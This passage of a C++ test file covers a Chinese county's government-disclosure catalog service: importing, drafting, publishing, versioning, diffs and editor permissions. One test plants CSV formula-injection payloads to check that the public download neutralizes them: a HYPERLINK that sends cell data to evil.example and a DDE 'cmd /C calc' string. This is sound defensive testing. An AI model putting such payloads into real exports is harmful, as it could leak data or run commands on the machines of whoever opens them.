// The catalog service on SQLite and PostgreSQL: seeded examples, imports
// into the draft, publishing versions, diffs, editing and permissions.
#include "catalog/service.h"

#include <algorithm>
#include <fstream>
#include <map>
#include <sstream>

#include "absl/strings/str_cat.h"
#include "absl/strings/string_view.h"
#include "catalog/excel.h"
#include "catalog/item.h"
#include "catalog/store.h"
#include "core/migrate.h"
#include "core/status.h"
#include "core/testing.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "nlohmann/json.hpp"

namespace zwgk::catalog {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

CatalogItem Item(std::string level1, std::string level2, std::string limit) {
  static int seq = 0;
  return CatalogItem{
      .seq = ++seq,
      .level1 = std::move(level1),
      .level2 = std::move(level2),
      .elements = "学校名称、地址、办学层次",
      .basis = "《中华人民共和国义务教育法》、《政府信息公开条例》",
      .time_limit = {.text = std::move(limit)},
      .subject = "县教育局",
      .channels = {"政府网站", "两微一端"},
      .audience = {Audience::kPublic},
      .method = {Method::kProactive},
      .levels = {Level::kCounty}};
}

class CatalogServiceTest : public ::testing::TestWithParam<std::string> {
 protected:
  void SetUp() override {
    db_ = zwgk::testing::NewMigratedDatabase(GetParam(),
                                             {"core", "org", "catalog"});
    ASSERT_NE(db_, nullptr);
    org_ = std::make_unique<org::Service>(*db_, clock_);
    ASSERT_TRUE(org_->Seed().ok());
    service_ = std::make_unique<Service>(*db_, clock_, *org_);
    ASSERT_TRUE(service_->Seed().ok());
    edu_ = org_->ResolveDomain("义务教育")->id;
    edu_unit_ = *org_->ResolveDomain("义务教育")->unit_id;
    // The seed opens drafts only; most tests start from the county office
    // having reviewed and published them as 第1版.
    for (const char* name :
         {"重大建设项目", "义务教育", "社会救助", "财政预决算"})
      ASSERT_TRUE(
          service_->Publish(admin_, org_->ResolveDomain(name)->id, "审定")
              .ok());
  }

  std::string Xlsx(std::vector<CatalogItem> items) {
    auto bytes = ExportXlsxBytes(
        Catalog{.domain = "义务教育", .items = std::move(items)});
    EXPECT_TRUE(bytes.ok()) << bytes.status();
    return bytes.ok() ? *bytes : "";
  }

  FakeClock clock_{StartOfDay(absl::CivilDay(2026, 3, 2))};
  std::unique_ptr<db::Database> db_;
  std::unique_ptr<org::Service> org_;
  std::unique_ptr<Service> service_;
  int64_t edu_ = 0, edu_unit_ = 0;
  Actor admin_{.user_id = 1, .name = "admin", .role = Role::kAdmin};
};

TEST_P(CatalogServiceTest, SeedOpensDraftsOfTheExamplesOncePublishingNothing) {
  // A fresh database: the seed's examples become drafts, never 第1版.
  auto db = zwgk::testing::NewMigratedDatabase(GetParam(),
                                               {"core", "org", "catalog"});
  ASSERT_NE(db, nullptr);
  org::Service org(*db, clock_);
  ASSERT_TRUE(org.Seed().ok());
  Service service(*db, clock_, org);
  ASSERT_TRUE(service.Seed().ok());
  auto domain = org.ResolveDomain("重大建设项目");
  EXPECT_EQ(service.Published(domain->id).status().code(),
            absl::StatusCode::kNotFound);
  auto c = service.Get(domain->id, VersionRef::Draft());
  ASSERT_TRUE(c.ok()) << c.status();
  EXPECT_FALSE(c->info.version.has_value());
  EXPECT_EQ(c->info.created_by, "system");
  ASSERT_GE(c->catalog.items.size(), 2u);
  const CatalogItem& first = c->catalog.items[0];
  EXPECT_EQ(first.level1, "批准服务信息");
  EXPECT_EQ(first.level2, "办事指南");
  EXPECT_EQ(first.time_limit.text, "实时公开");
  EXPECT_EQ(first.time_limit.period.kind, PeriodKind::kRealtime);
  EXPECT_THAT(first.channels, ::testing::Contains("投资项目在线审批监管平台"));
  EXPECT_EQ(c->catalog.items[1].level2, "办理过程信息");
  EXPECT_EQ(c->catalog.items[1].audience_detail, "项目单位");
  EXPECT_TRUE(first.example);
  ASSERT_TRUE(service.Seed().ok());
  EXPECT_EQ(service.Versions(domain->id)->size(), 1u);
  // Nothing of any domain is published by the seed.
  auto domains = org.ListDomains();
  ASSERT_TRUE(domains.ok());
  for (const org::Domain& d : *domains)
    EXPECT_FALSE(service.Published(d.id).ok()) << d.name;
  // Publishing by the county office adopts the examples: no 示例 mark left.
  ASSERT_TRUE(service.Publish(admin_, domain->id, "审定").ok());
  for (const CatalogItem& it : service.Published(domain->id)->catalog.items)
    EXPECT_FALSE(it.example) << ItemName(it);
}

TEST_P(CatalogServiceTest, ImportGoesToTheDraftAndPublishMakesTheNextVersion) {
  auto out = service_->Import(
      admin_, edu_,
      {.bytes = Xlsx({Item("招生管理", "随迁子女入学办法（2026）",
                           "自信息形成或者变更之日起20个工作日内"),
                      Item("招生管理", "民办学校摇号结果", "实时公开")})});
  ASSERT_TRUE(out.ok()) << out.status();
  EXPECT_EQ(out->imported, 2);
  EXPECT_TRUE(out->draft.draft());
  // The public still sees version 1 until the county office publishes.
  EXPECT_EQ(service_->Published(edu_)->info.version, 1);
  auto v2 = service_->Publish(admin_, edu_, "2026年修订");
  ASSERT_TRUE(v2.ok()) << v2.status();
  EXPECT_EQ(v2->version, 2);
  auto pub = service_->Published(edu_);
  ASSERT_EQ(pub->catalog.items.size(), 2u);
  EXPECT_EQ(pub->catalog.items[0].time_limit.period,
            (Period{PeriodKind::kWorkingDays, 20}));
  // Version 1 stays readable, and the diff names what changed.
  EXPECT_TRUE(service_->Get(edu_, VersionRef::Number(1)).ok());
  auto diff =
      service_->Diff(edu_, VersionRef::Number(1), VersionRef::Number(2));
  ASSERT_TRUE(diff.ok());
  int added = 0, removed = 0;
  for (const ItemChange& c : *diff) {
    added += c.kind == ItemChange::Kind::kAdded;
    removed += c.kind == ItemChange::Kind::kRemoved;
  }
  EXPECT_EQ(added, 2);
  EXPECT_GT(removed, 0);
  EXPECT_EQ(service_->Publish(admin_, edu_, "").status().code(),
            absl::StatusCode::kFailedPrecondition);
}

// A legal wording with several cases is kept as written; the county's
// 计时期限 makes it publishable and is what records count by.
TEST_P(CatalogServiceTest, ClockWordingIsKeptAndCounts) {
  const std::string several =
      "自信息形成或者变更之日起20个工作日内予以公开；结果信息自信息形成或者"
      "变更之日起7个工作日内予以公开";
  auto out = service_->Import(
      admin_, edu_, {.bytes = Xlsx({Item("招生管理", "招生结果", several)})});
  ASSERT_TRUE(out.ok()) << out.status();
  auto refused = service_->Publish(admin_, edu_, "");
  EXPECT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_THAT(std::string(refused.status().message()),
              ::testing::HasSubstr("计时期限"));
  auto draft = service_->Get(edu_, VersionRef::Draft());
  ASSERT_TRUE(draft.ok()) << draft.status();
  ASSERT_EQ(draft->catalog.items.size(), 1u);
  CatalogItem item = draft->catalog.items[0];
  item.time_limit.clock = "7个工作日内";
  ASSERT_TRUE(service_->SaveItem(admin_, edu_, item).ok());
  auto v2 = service_->Publish(admin_, edu_, "");
  ASSERT_TRUE(v2.ok()) << v2.status();
  auto pub = service_->Published(edu_);
  ASSERT_EQ(pub->catalog.items.size(), 1u);
  // Read back by id, as records do, with its version.
  auto got = service_->GetItem(pub->catalog.items[0].id);
  ASSERT_TRUE(got.ok()) << got.status();
  EXPECT_EQ(got->first.version, v2->version);
  EXPECT_EQ(got->second.time_limit.text, several);
  EXPECT_EQ(got->second.time_limit.clock, "7个工作日内");
  EXPECT_EQ(got->second.time_limit.period,
            (Period{PeriodKind::kWorkingDays, 7}));
}

TEST_P(CatalogServiceTest, PublishedItemsAreThoseOfTheLatestPublishedVersions) {
  // The items of `domain` that PublishedItems returns, read in one
  // transaction as another module would.
  auto published = [&](int64_t domain) {
    std::vector<CatalogItem> out;
    EXPECT_TRUE(db_->Transaction([&](db::Tx& tx) -> absl::Status {
                     ZWGK_ASSIGN_OR_RETURN(std::vector<DomainItem> all,
                                           service_->PublishedItems(tx));
                     for (DomainItem& i : all)
                       if (i.domain_id == domain)
                         out.push_back(std::move(i.item));
                     return absl::OkStatus();
                   })
                    .ok());
    return out;
  };
  std::vector<CatalogItem> v1 = published(edu_);
  EXPECT_EQ(v1, service_->Published(edu_)->catalog.items);
  ASSERT_FALSE(v1.empty());
  // Another domain's items come too.
  EXPECT_FALSE(published(org_->ResolveDomain("重大建设项目")->id).empty());

  // A draft is not published: still version 1.
  ASSERT_TRUE(service_
                  ->Import(admin_, edu_,
                           {.bytes = Xlsx({Item("招生管理", "划片范围",
                                                "自信息形成或者变更之日起20"
                                                "个工作日内")})})
                  .ok());
  EXPECT_EQ(published(edu_), v1);
  // Once published, version 2 alone (version 1 stays stored).
  ASSERT_TRUE(service_->Publish(admin_, edu_, "第二版").ok());
  std::vector<CatalogItem> v2 = published(edu_);
  ASSERT_EQ(v2.size(), 1u);
  EXPECT_EQ(v2[0].level2, "划片范围");
  EXPECT_EQ(v2[0].time_limit.period, (Period{PeriodKind::kWorkingDays, 20}));
}

TEST_P(CatalogServiceTest, VersionReferencesResolveToTheirVersion) {
  // Seeded: version 1 published, no draft.
  ASSERT_TRUE(service_->OpenDraft(admin_, edu_).ok());
  ASSERT_TRUE(service_->Publish(admin_, edu_, "第二版").ok());
  struct Case {
    VersionRef ref;
    bool with_draft;          // whether a draft is open
    std::optional<int> want;  // the version found; nullopt: the draft
    absl::StatusCode code = absl::StatusCode::kOk;
  };
  const std::vector<Case> cases = {
      {VersionRef::Current(), false, 2},
      {VersionRef::LatestPublished(), false, 2},
      {VersionRef::Number(1), false, 1},
      {VersionRef::Number(2), false, 2},
      {VersionRef::Number(3), false, {}, absl::StatusCode::kNotFound},
      {VersionRef::Draft(), false, {}, absl::StatusCode::kNotFound},
      {VersionRef::Current(), true, std::nullopt},
      {VersionRef::Draft(), true, std::nullopt},
      {VersionRef::LatestPublished(), true, 2},
      {VersionRef::Number(1), true, 1},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(
        absl::StrCat("\"", c.ref.ToString(), "\" draft=", c.with_draft));
    if (c.with_draft) {
      ASSERT_TRUE(service_->OpenDraft(admin_, edu_).ok());
    }
    absl::StatusOr<StoredCatalog> got = service_->Get(edu_, c.ref);
    ASSERT_EQ(got.status().code(), c.code) << got.status();
    if (got.ok()) {
      EXPECT_EQ(got->info.version, c.want);
      EXPECT_EQ(got->catalog.version, c.want);
    }
  }
}

TEST(ParseVersionRefTest, SaysWhatIsAccepted) {
  EXPECT_EQ(*ParseVersionRef("2"), VersionRef::Number(2));
  absl::Status bad = ParseVersionRef("latest").status();
  EXPECT_EQ(bad.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(bad.message(), HasSubstr("“latest”"));
  EXPECT_THAT(bad.message(), HasSubstr("draft、published 或版本号"));
}

// Issue 12, finding 8: what an editor typed as a formula reaches the public
// CSV download (GET /domains/{id}/catalog.csv encodes the published
// version) as text, on both databases.
TEST_P(CatalogServiceTest, PublicCsvDownloadNeutralizesFormulas) {
  CatalogItem evil =
      Item("招生管理", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
           "实时公开");
  evil.elements = "@SUM(1+1)*cmd|' /C calc'!A0";
  evil.subject = "-县教育局";
  auto out = service_->Import(admin_, edu_, {.bytes = Xlsx({evil})});
  ASSERT_TRUE(out.ok()) << out.status();
  ASSERT_TRUE(service_->Publish(admin_, edu_, "含公式样文本").ok());
  auto csv = service_->Export(edu_, VersionRef::LatestPublished(), "csv");
  ASSERT_TRUE(csv.ok()) << csv.status();
  EXPECT_THAT(*csv, HasSubstr("\"'=HYPERLINK(\"\"http://evil.example/"));
  EXPECT_THAT(*csv, HasSubstr("\"'@SUM(1+1)"));
  EXPECT_THAT(*csv, HasSubstr("\"'-县教育局\""));
  auto rows = ParseCsv(*csv);
  ASSERT_TRUE(rows.ok()) << rows.status();
  ASSERT_EQ(rows->size(), 2u);
  for (const std::string& cell : rows->at(1)) {
    EXPECT_TRUE(cell.empty() || absl::string_view("=+-@\t\r").find(cell[0]) ==
                                    absl::string_view::npos)
        << cell;
  }
  // The download, imported again, gives the cells back as typed.
  auto again = service_->Import(admin_, edu_, {.bytes = *csv, .format = "csv"});
  ASSERT_TRUE(again.ok()) << again.status();
  auto draft = service_->Get(edu_, VersionRef::Draft());
  ASSERT_TRUE(draft.ok()) << draft.status();
  ASSERT_EQ(draft->catalog.items.size(), 1u);
  EXPECT_EQ(draft->catalog.items[0].level2, evil.level2);
  EXPECT_EQ(draft->catalog.items[0].elements, evil.elements);
  EXPECT_EQ(draft->catalog.items[0].subject, evil.subject);
}

TEST_P(CatalogServiceTest, ImportWithoutAnyReadableRowLeavesTheDraftAlone) {
  std::string csv = ExportCsv(Catalog{
      .domain = "义务教育", .items = {Item("招生管理", "", "实时公开")}});
  auto bad = service_->Import(admin_, edu_, {.bytes = csv, .format = "csv"});
  ASSERT_EQ(bad.status().code(), absl::StatusCode::kInvalidArgument);
  auto problems = GetImportProblems(bad.status());
  ASSERT_EQ(problems.size(), 1u);
  EXPECT_EQ(problems[0].row, 2) << problems[0].ToString();
  EXPECT_FALSE(problems[0].kept);
  EXPECT_FALSE(
      service_->Get(edu_, VersionRef::Draft()).ok());  // no draft was opened
}

// Issue 14: an item with no channel ticked, a 公开时限 that is not a period
// and an item without 公开主体 are kept in the draft and flagged; publication
// is refused naming each until they are completed.
TEST_P(CatalogServiceTest, IncompleteItemsAreKeptAndBlockPublication) {
  CatalogItem no_channel = Item("招生管理", "招生计划", "实时公开");
  no_channel.channels.clear();
  CatalogItem odd_limit = Item("招生管理", "招生范围", "每年3月31日前");
  CatalogItem no_subject =
      Item("教育概况", "统计数据", "自信息形成或者变更之日起20个工作日内");
  no_subject.subject.clear();
  CatalogItem blank_row = Item("教育概况", "", "实时公开");
  std::string csv = ExportCsv(
      Catalog{.domain = "义务教育",
              .items = {Item("招生管理", "招生政策", "实时公开"), no_channel,
                        odd_limit, no_subject, blank_row}});
  auto out = service_->Import(admin_, edu_, {.bytes = csv, .format = "csv"});
  ASSERT_TRUE(out.ok()) << out.status();
  EXPECT_EQ(out->imported, 4);
  EXPECT_EQ(out->incomplete, 3);
  ASSERT_EQ(out->problems.size(), 4u);
  EXPECT_EQ(out->problems[0].row, 3);
  EXPECT_EQ(out->problems[0].item, "招生管理 / 招生计划");
  EXPECT_TRUE(out->problems[0].kept);
  EXPECT_EQ(out->problems[3].row, 6);
  EXPECT_FALSE(out->problems[3].kept);

  // The draft holds every readable row, with what was read.
  auto draft = service_->Get(edu_, VersionRef::Draft());
  ASSERT_TRUE(draft.ok()) << draft.status();
  ASSERT_EQ(draft->catalog.items.size(), 4u);
  EXPECT_EQ(draft->catalog.items[1].level2, "招生计划");
  EXPECT_EQ(draft->catalog.items[1].elements, no_channel.elements);
  EXPECT_EQ(draft->catalog.items[2].time_limit.text, "每年3月31日前");
  std::vector<IncompleteItem> missing =
      Service::Incomplete(draft->catalog.items);
  ASSERT_EQ(missing.size(), 3u);
  EXPECT_EQ(missing[0].seq, 2);
  EXPECT_EQ(missing[0].name, "招生管理 / 招生计划");

  auto refused = service_->Publish(admin_, edu_, "");
  ASSERT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition);
  const std::string message(refused.status().message());
  EXPECT_THAT(message, HasSubstr("草稿中有3个事项不完整"));
  EXPECT_THAT(message, HasSubstr("序号2“招生管理 / 招生计划”：公开渠道和载体"
                                 "至少要有一项"));
  EXPECT_THAT(message, HasSubstr("序号3“招生管理 / 招生范围”：公开时限“每年3月"
                                 "31日前”无法识别为期限"));
  EXPECT_THAT(message,
              HasSubstr("序号4“教育概况 / 统计数据”：公开主体不能为空"));
  EXPECT_EQ(service_->Published(edu_)->info.version, 1);

  // Saving an item still incomplete is refused with the field named.
  CatalogItem fix = draft->catalog.items[1];
  auto still = service_->SaveItem(admin_, edu_, fix);
  ASSERT_EQ(still.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_TRUE(GetFieldErrors(still.status()).contains("channels"));
  // Fixed one by one in the draft, the catalog publishes.
  fix.channels = {"政府网站"};
  ASSERT_TRUE(service_->SaveItem(admin_, edu_, fix).ok());
  fix = draft->catalog.items[2];
  fix.time_limit.text = "自信息形成或者变更之日起20个工作日内";
  ASSERT_TRUE(service_->SaveItem(admin_, edu_, fix).ok());
  refused = service_->Publish(admin_, edu_, "");
  ASSERT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_THAT(refused.status().message(), HasSubstr("草稿中有1个事项不完整"));
  EXPECT_THAT(refused.status().message(), Not(HasSubstr("招生计划")));
  fix = draft->catalog.items[3];
  fix.subject = "县教育局";
  ASSERT_TRUE(service_->SaveItem(admin_, edu_, fix).ok());
  auto v2 = service_->Publish(admin_, edu_, "补全后发布");
  ASSERT_TRUE(v2.ok()) << v2.status();
  EXPECT_EQ(v2->version, 2);
  auto pub = service_->Published(edu_);
  ASSERT_EQ(pub->catalog.items.size(), 4u);
  EXPECT_THAT(pub->catalog.items[1].channels,
              ::testing::ElementsAre("政府网站"));
  EXPECT_EQ(pub->catalog.items[2].time_limit.period,
            (Period{PeriodKind::kWorkingDays, 20}));
}

// What the import could not read is stored with the item (both engines) and
// cleared when the item is saved.
TEST_P(CatalogServiceTest, ImportNotesAreStoredUntilTheItemIsSaved) {
  CatalogItem item = Item("招生管理", "招生政策", "实时公开");
  std::string csv = ExportCsv(Catalog{.domain = "义务教育", .items = {item}});
  // The channel cell as a county typed it: one name without a mark.
  size_t at = csv.find("■政府网站");
  ASSERT_NE(at, std::string::npos);
  csv.replace(at, std::string("■政府网站").size(), "政府网站");
  auto out = service_->Import(admin_, edu_, {.bytes = csv, .format = "csv"});
  ASSERT_TRUE(out.ok()) << out.status();
  EXPECT_EQ(out->incomplete, 1);
  auto draft = service_->Get(edu_, VersionRef::Draft());
  ASSERT_TRUE(draft.ok()) << draft.status();
  const CatalogItem& stored = draft->catalog.items.at(0);
  ASSERT_EQ(stored.import_notes.size(), 1u);
  EXPECT_THAT(stored.import_notes[0].reason, HasSubstr("“政府网站”前没有■或□"));
  EXPECT_THAT(service_->Publish(admin_, edu_, "").status().message(),
              HasSubstr("“政府网站”前没有■或□"));
  CatalogItem fix = stored;
  fix.channels = {"政府网站", "两微一端"};
  ASSERT_TRUE(service_->SaveItem(admin_, edu_, fix).ok());
  EXPECT_TRUE(service_->Get(edu_, VersionRef::Draft())
                  ->catalog.items[0]
                  .import_notes.empty());
  EXPECT_TRUE(service_->Publish(admin_, edu_, "").ok());
}

TEST_P(CatalogServiceTest,
       EditorsOfTheUnitEditDraftsButOnlyTheCountyPublishes) {
  Actor editor{.user_id = 2,
               .name = "edu",
               .role = Role::kUnitEditor,
               .unit_id = edu_unit_};
  Actor other{.user_id = 3,
              .name = "x",
              .role = Role::kUnitEditor,
              .unit_id = edu_unit_ + 1};
  EXPECT_EQ(service_->OpenDraft(other, edu_).status().code(),
            absl::StatusCode::kPermissionDenied);
  auto draft = service_->OpenDraft(editor, edu_);
  ASSERT_TRUE(draft.ok()) << draft.status();
  EXPECT_EQ(draft->item_count, service_->Published(edu_)->info.item_count);
  auto bad =
      service_->SaveItem(editor, edu_, CatalogItem{.level1 = "招生管理"});
  ASSERT_EQ(bad.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_GE(GetFieldErrors(bad.status()).size(), 2u);
  auto added = service_->SaveItem(
      editor, edu_, Item("学生管理", "资助政策", "公示7个工作日"));
  ASSERT_TRUE(added.ok()) << added.status();
  added->elements = "两免一补";
  auto changed = service_->SaveItem(editor, edu_, *added);
  ASSERT_TRUE(changed.ok());
  EXPECT_EQ(changed->id, added->id);
  ASSERT_TRUE(service_->MoveItem(editor, edu_, added->id, -1).ok());
  auto items = service_->Get(edu_, VersionRef::Draft())->catalog.items;
  EXPECT_EQ(items[items.size() - 2].id, added->id);
  ASSERT_TRUE(service_->RemoveItem(editor, edu_, added->id).ok());
  EXPECT_EQ(service_->Publish(editor, edu_, "").status().code(),
            absl::StatusCode::kPermissionDenied);
  auto audit = db_->Query(
      "SELECT COUNT(*) FROM audit_log WHERE entity = 'catalog_item'", {});
  EXPECT_EQ(audit->rows[0].Int(0), 4);
}

TEST_P(CatalogServiceTest, ExportImportIsLosslessThroughTheService) {
  for (const char* format : {"xlsx", "csv", "json"}) {
    auto bytes = service_->Export(edu_, VersionRef::LatestPublished(), format);
    ASSERT_TRUE(bytes.ok()) << format << bytes.status();
    auto out =
        service_->Import(admin_, edu_, {.bytes = *bytes, .format = format});
    ASSERT_TRUE(out.ok()) << format << out.status();
    auto diff = service_->Diff(edu_, VersionRef::LatestPublished(),
                               VersionRef::Draft());
    ASSERT_TRUE(diff.ok());
    EXPECT_TRUE(diff->empty()) << format << " changed " << diff->front().key;
  }
}

TEST_P(CatalogServiceTest, CatalogsNotReviewedForAYearAreListed) {
  auto due = service_->DueForReview();
  ASSERT_TRUE(due.ok());
  EXPECT_EQ(due->size(), 22u);  // 26 domains, 4 published today
  clock_.Advance(absl::Hours(24 * 366));
  EXPECT_EQ(service_->DueForReview()->size(), 26u);
}

TEST_P(CatalogServiceTest, TownsGetTheTownshipItemsOfTheCountyCatalog) {
  CatalogItem both = Item("学生管理", "资助名单公示", "公示7个工作日");
  both.levels = {Level::kCounty, Level::kTownship};
  both.subject = "各镇人民政府";
  CatalogItem county_only =
      Item("教育概况", "统计数据", "自信息形成或者变更之日起20个工作日内");
  ASSERT_TRUE(
      service_->Import(admin_, edu_, {.bytes = Xlsx({both, county_only})})
          .ok());
  ASSERT_TRUE(service_->Publish(admin_, edu_, "").ok());
  auto town = org_->CreateUnit(admin_, {.name = "鱼岳镇", .kind = "town"});
  ASSERT_TRUE(town.ok());
  auto c = service_->TownCatalog(edu_, town->id);
  ASSERT_TRUE(c.ok()) << c.status();
  ASSERT_EQ(c->catalog.items.size(), 1u);
  EXPECT_EQ(c->catalog.items[0].level2, "资助名单公示");
  EXPECT_EQ(c->catalog.items[0].subject, "鱼岳镇");
  EXPECT_EQ(service_->TownCatalog(edu_, edu_unit_).status().code(),
            absl::StatusCode::kFailedPrecondition);
  auto subjects =
      service_->SubjectUnits(service_->Published(edu_)->catalog.items);
  ASSERT_TRUE(subjects.ok());
  EXPECT_FALSE((*subjects)[0].has_value());  // 各镇人民政府 names no unit
  ASSERT_TRUE((*subjects)[1].has_value());
  EXPECT_EQ((*subjects)[1]->name, "县教育局");
}

std::string ReadDataFile(const std::string& name) {
  std::ifstream in(std::string(ZWGK_CATALOG_DATA_DIR) + "/" + name,
                   std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// The 24 domains of domain-catalogs.json map onto the seed's names, and every
// seed domain is offered its starting catalog with each item exactly as the
// sources have it: nothing left out, nothing filled in.
TEST_P(CatalogServiceTest, EverySeedDomainIsOfferedItsItemsExactlyAsFound) {
  nlohmann::json found = nlohmann::json::parse(ReadDataFile("suggested.json"));
  ASSERT_EQ(found.size(), 24u);
  auto text = [](const nlohmann::json& j, const char* key) {
    return j.contains(key) ? j[key].get<std::string>() : std::string();
  };
  for (const nlohmann::json& d : found) {
    std::string name = SeedDomainName(d["domain"].get<std::string>());
    auto domain = org_->ResolveDomain(name);
    ASSERT_TRUE(domain.ok()) << d["domain"] << " is not a seed domain";
    auto s = service_->Suggested(domain->id);
    ASSERT_TRUE(s.ok()) << s.status();
    for (const nlohmann::json& j : d["items"]) {
      CatalogItem want{.level1 = text(j, "level1"),
                       .level2 = text(j, "level2")};
      auto it = std::find_if(
          s->suggestion.items.begin(), s->suggestion.items.end(),
          [&](const CatalogItem& c) { return ItemName(c) == ItemName(want); });
      ASSERT_NE(it, s->suggestion.items.end()) << name << ItemName(want);
      if (it->example) continue;  // the seed's own example of that item
      EXPECT_EQ(it->elements, text(j, "elements")) << ItemName(want);
      EXPECT_EQ(it->basis, text(j, "basis")) << ItemName(want);
      EXPECT_EQ(it->time_limit.text, text(j, "time_limit")) << ItemName(want);
      EXPECT_EQ(it->subject, text(j, "subject")) << ItemName(want);
      EXPECT_TRUE(it->channels.empty()) << "channels invented";
      EXPECT_EQ(it->audience.size(), j.contains("audience") ? 1u : 0u);
      EXPECT_EQ(it->method.size(), j.contains("mode") ? 1u : 0u);
    }
  }
  auto domains = org_->ListDomains();
  ASSERT_TRUE(domains.ok());
  ASSERT_EQ(domains->size(), 26u);
  for (const org::Domain& d : *domains) {
    auto s = service_->Suggested(d.id);
    ASSERT_TRUE(s.ok()) << s.status();
    EXPECT_FALSE(s->suggestion.items.empty()) << d.name;
  }
}

TEST_P(CatalogServiceTest,
       AdoptingTheStartingCatalogOpensADraftNeverPublished) {
  auto env = org_->ResolveDomain("环境保护");
  ASSERT_TRUE(env.ok());
  Actor editor{.user_id = 7,
               .name = "环保编辑",
               .role = Role::kUnitEditor,
               .unit_id = env->unit_id};
  auto before = service_->Suggested(env->id);
  ASSERT_TRUE(before.ok()) << before.status();
  EXPECT_FALSE(before->has_draft);
  EXPECT_FALSE(before->has_published);
  EXPECT_EQ(before->suggestion.guideline, "环办厅函〔2019〕672号");
  ASSERT_EQ(before->missing.size(), before->suggestion.items.size());
  // Another unit's editor may not start it.
  Actor other{.user_id = 8,
              .name = "教育编辑",
              .role = Role::kUnitEditor,
              .unit_id = edu_unit_};
  EXPECT_EQ(service_->AdoptSuggested(other, env->id).status().code(),
            absl::StatusCode::kPermissionDenied);
  clock_.Advance(absl::Hours(2));
  auto out = service_->AdoptSuggested(editor, env->id);
  ASSERT_TRUE(out.ok()) << out.status();
  EXPECT_EQ(out->added, static_cast<int>(before->suggestion.items.size()));
  EXPECT_TRUE(out->draft.draft());
  EXPECT_EQ(out->draft.created_by, "环保编辑");
  EXPECT_EQ(out->draft.created_at, FormatTimestamp(clock_.Now()));
  // Still 待编制 for the public; the sources lack channels, so the county
  // office cannot publish before the unit completes the items.
  EXPECT_EQ(service_->Published(env->id).status().code(),
            absl::StatusCode::kNotFound);
  auto draft = service_->Get(env->id, VersionRef::Draft());
  ASSERT_EQ(draft->catalog.items.size(), before->suggestion.items.size());
  EXPECT_EQ(draft->catalog.items[0].level1, before->suggestion.items[0].level1);
  EXPECT_FALSE(Service::Incomplete(draft->catalog.items).empty());
  auto refused = service_->Publish(admin_, env->id, "");
  EXPECT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_THAT(refused.status().message(), HasSubstr("公开渠道"));
  // Adopting again adds nothing.
  EXPECT_EQ(service_->AdoptSuggested(editor, env->id).status().code(),
            absl::StatusCode::kFailedPrecondition);
  auto after = service_->Suggested(env->id);
  EXPECT_TRUE(after->has_draft);
  EXPECT_TRUE(after->missing.empty());
  auto audit = db_->Query(
      "SELECT COUNT(*) FROM audit_log WHERE action = 'catalog.adopt_suggested'",
      {});
  EXPECT_EQ(audit->rows[0].Int(0), 1);
}

TEST_P(CatalogServiceTest, AdoptingAddsOnlyWhatTheDraftLacks) {
  // 义务教育's draft (from its published 第1版) already holds the seed's 18
  // examples; the 标准指引 adds 教育督导公开, 校园安全 and 教育概况/学前教育.
  auto s = service_->Suggested(edu_);
  ASSERT_TRUE(s.ok());
  EXPECT_TRUE(s->has_published);
  std::vector<std::string> names;
  for (const CatalogItem& it : s->missing) names.push_back(ItemName(it));
  EXPECT_THAT(names, ::testing::ElementsAre("教育督导公开", "校园安全",
                                            "教育概况 / 学前教育"));
  auto out = service_->AdoptSuggested(admin_, edu_);
  ASSERT_TRUE(out.ok()) << out.status();
  EXPECT_EQ(out->added, 3);
  EXPECT_EQ(out->draft.item_count,
            service_->Published(edu_)->info.item_count + 3);
  EXPECT_EQ(service_->Published(edu_)->info.version, 1);
}

TEST_P(CatalogServiceTest, ADomainTheCountyAddsHasNoSuggestionAndSaysSo) {
  auto added =
      org_->CreateDomain(admin_, {.name = "统计", .unit_id = edu_unit_});
  ASSERT_TRUE(added.ok()) << added.status();
  auto s = service_->Suggested(added->id);
  ASSERT_TRUE(s.ok());
  EXPECT_TRUE(s->suggestion.items.empty());
  auto adopt = service_->AdoptSuggested(admin_, added->id);
  EXPECT_EQ(adopt.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_THAT(adopt.status().message(), HasSubstr("暂无可参考的建议目录"));
  EXPECT_EQ(service_->Versions(added->id)->size(), 0u);
}

TEST_P(CatalogServiceTest, ThreeLevelItemsRoundTripThroughImportAndExport) {
  ASSERT_TRUE(service_->OpenDraft(admin_, edu_).ok());
  CatalogItem three = Item("财务信息", "年度经费预决算", "20个工作日内");
  three.level3 = "一般公共预算";
  auto saved = service_->SaveItem(admin_, edu_, three);
  ASSERT_TRUE(saved.ok()) << saved.status();
  ASSERT_TRUE(service_->Publish(admin_, edu_, "三级事项").ok());
  auto relief = org_->ResolveDomain("社会救助")->id;
  for (const char* format : {"xlsx", "csv", "json"}) {
    auto bytes = service_->Export(edu_, VersionRef::LatestPublished(), format);
    ASSERT_TRUE(bytes.ok()) << format << bytes.status();
    auto in =
        service_->Import(admin_, relief, {.bytes = *bytes, .format = format});
    ASSERT_TRUE(in.ok()) << format << in.status();
    auto draft = service_->Get(relief, VersionRef::Draft());
    int with_level3 = 0;
    for (const CatalogItem& it : draft->catalog.items) {
      if (!it.level3) continue;
      ++with_level3;
      EXPECT_EQ(*it.level3, "一般公共预算") << format;
      EXPECT_EQ(it.level2, "年度经费预决算") << format;
    }
    EXPECT_EQ(with_level3, 1) << format;
    EXPECT_EQ(draft->catalog.items.size(),
              service_->Published(edu_)->catalog.items.size())
        << format;
  }
}

// Upgrading a database whose seed published its examples as 第1版: an
// untouched seeded 第1版 becomes the domain's draft; a catalog the county
// published, revised or opened for revision is left as it is.
TEST_P(CatalogServiceTest, MigrationTurnsUntouchedSeededVersionsIntoDrafts) {
  std::unique_ptr<db::Database> db = zwgk::testing::NewDatabase(GetParam());
  ASSERT_NE(db, nullptr);
  std::vector<Migration> before;
  for (const char* module : {"core", "org", "catalog"}) {
    auto all = EmbeddedMigrations(module);
    ASSERT_TRUE(all.ok());
